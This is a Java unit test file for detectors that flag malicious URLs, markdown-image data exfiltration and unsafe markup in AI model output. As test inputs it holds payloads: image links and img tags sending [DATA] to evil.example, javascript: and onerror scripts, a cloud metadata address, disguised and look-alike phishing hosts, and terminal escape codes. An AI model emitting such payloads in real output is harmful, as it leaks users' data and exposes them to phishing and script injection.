package com.modalarmor.detect.url;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.modalarmor.chat.Trust;
import com.modalarmor.detect.Detector;
import com.modalarmor.detect.FindingSink;
import com.modalarmor.detect.Subject;
import com.modalarmor.detect.output.UnsafeOutputDetector;
import com.modalarmor.text.url.Origins;
import com.modalarmor.verdict.Finding;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;

class LinkDetectorsTest {

  private static final long SEED = Long.getLong("seed", 20_261_128L);
  private static final int CASES = 20_000;

  private final Subject subject = new Subject();

  private List<Finding> find(Detector detector, String text) {
    FindingSink sink = new FindingSink(10_000);
    sink.clear();
    subject.read(text, Trust.MODEL, true);
    detector.detect(subject, sink);
    return sink.toList();
  }

  private String found(Detector detector, String text) {
    List<Finding> findings = find(detector, text);
    return findings.isEmpty() ? "" : text.substring(findings.get(0).start(), findings.get(0).end());
  }

  @Test
  void hidden_hosts_are_found_and_plain_ones_are_not() {
    Detector detector = new MaliciousUrlDetector();
    String[][] rows = {
      {"go to http://0x7f000001/a now", "http://0x7f000001/a"},
      {"see http://169.254.169.254/latest/.", "http://169.254.169.254/latest/"},
      {"https://paypal.com@evil.example/x", "https://paypal.com@evil.example/x"},
      {"(javascript:alert(1))", "javascript:alert(1)"},
      {
        "https://ok.example/?next=https://evil.example/",
        "https://ok.example/?next=https://evil.example/"
      },
      {"http://раypal.com/login", "http://раypal.com/login"},
      {"https://facebuk.com/", "https://facebuk.com/"},
      {"https://www.facebook.com/a?b=c", ""},
      {"https://docs.python.org/3/library/re.html?highlight=match", ""},
      {"time: 12:30, ratio 3:4, note: fine", ""},
      {"// a comment in code", ""},
      {"https://ok.example/?next=/home", ""},
    };
    int tried = 0;
    for (String[] row : rows) {
      assertEquals(row[1], found(detector, row[0]), row[0]);
      tried++;
    }
    assertEquals(12, tried);
  }

  @Test
  void a_list_of_origins_decides_about_pictures() {
    String text = "![chart](https://cdn.example.com/c.png)";
    assertEquals("", found(new ExfiltrationDetector(Origins.UNSAID), text));
    assertEquals("", found(new ExfiltrationDetector(Origins.of(List.of("cdn.example.com"))), text));
    assertEquals(text, found(new ExfiltrationDetector(Origins.of(List.of("our.example"))), text));
    String carries = "![x](https://cdn.example.com/c.png?q=[DATA])";
    assertEquals(
        "", found(new ExfiltrationDetector(Origins.of(List.of("cdn.example.com"))), carries));
    assertEquals(carries, found(new ExfiltrationDetector(Origins.UNSAID), carries));
  }

  @Test
  void markup_in_a_block_of_code_is_scored_low() {
    Detector detector = new UnsafeOutputDetector();
    assertTrue(find(detector, "<script>alert(1)</script>").get(0).score() > 0.9f);
    assertTrue(find(detector, "```html\n<script>alert(1)</script>\n```").get(0).score() < 0.5f);
    assertTrue(find(detector, "use `<script>` here").get(0).score() < 0.5f);
    assertTrue(find(detector, "\u001B[2Jx").get(0).score() > 0.9f);
    assertEquals(List.of(), find(detector, "a < b, <b>bold</b>, List<String> and 1<2\n\ttab"));
  }

  @Test
  void findings_before_the_settled_place_are_final_at_any_cut() {
    SplittableRandom random = new SplittableRandom(SEED);
    List<Detector> detectors =
        List.of(
            new MaliciousUrlDetector(),
            new ExfiltrationDetector(Origins.UNSAID),
            new UnsafeOutputDetector());
    int cases = 0;
    while (cases < CASES) {
      String text = text(random);
      for (Detector detector : detectors) {
        List<Finding> whole = find(detector, text);
        for (int i = 0; i < 8; i++) {
          check(detector, text, random.nextInt(text.length() + 1), whole);
          cases++;
        }
      }
    }
  }

  private void check(Detector detector, String text, int at, List<Finding> whole) {
    String begun = text.substring(0, at);
    List<Finding> now = find(detector, begun);
    int settled = detector.settledTo(subject);
    String shown =
        detector.name() + ", seed " + SEED + ", settled " + settled + " of " + at + ": " + text;
    assertEquals(
        whole.stream().filter(f -> f.start() < settled).toList(),
        now.stream().filter(f -> f.start() < settled).toList(),
        shown);
  }

  private static final String[] PIECES = {
    "some words ",
    "\n",
    "\n\n",
    "![x](https://evil.example/a.png?q=[DATA])",
    "[t](https://ok.example/p)",
    "![x][r]",
    "[r]: https://evil.example/a?q=[DATA]",
    "[r]",
    "![r]",
    "<script>",
    "</script>",
    "<img src=x onerror=y>",
    "<img src=\"https://evil.example/?d=[DATA]\">",
    "`",
    "```",
    "\n```\n",
    "http://0x7f000001/",
    "javascript:alert(1)",
    "//evil.example/",
    "\u001B[31m",
    "\u0007",
    "[",
    "](",
    ")",
    "<",
    ">",
    "!",
    "a@b.example",
    "https://a.example@b.example/",
    " ",
    "\"",
    "\\",
    "1. ",
    "data:text/html,x",
    "https://",
    "    ",
    "~~~",
    "http:1.2",
    ": "
  };

  private static String text(SplittableRandom random) {
    StringBuilder out = new StringBuilder();
    for (int i = 1 + random.nextInt(14); i >= 0; i--) {
      out.append(PIECES[random.nextInt(PIECES.length)]);
    }
    return out.toString();
  }
}
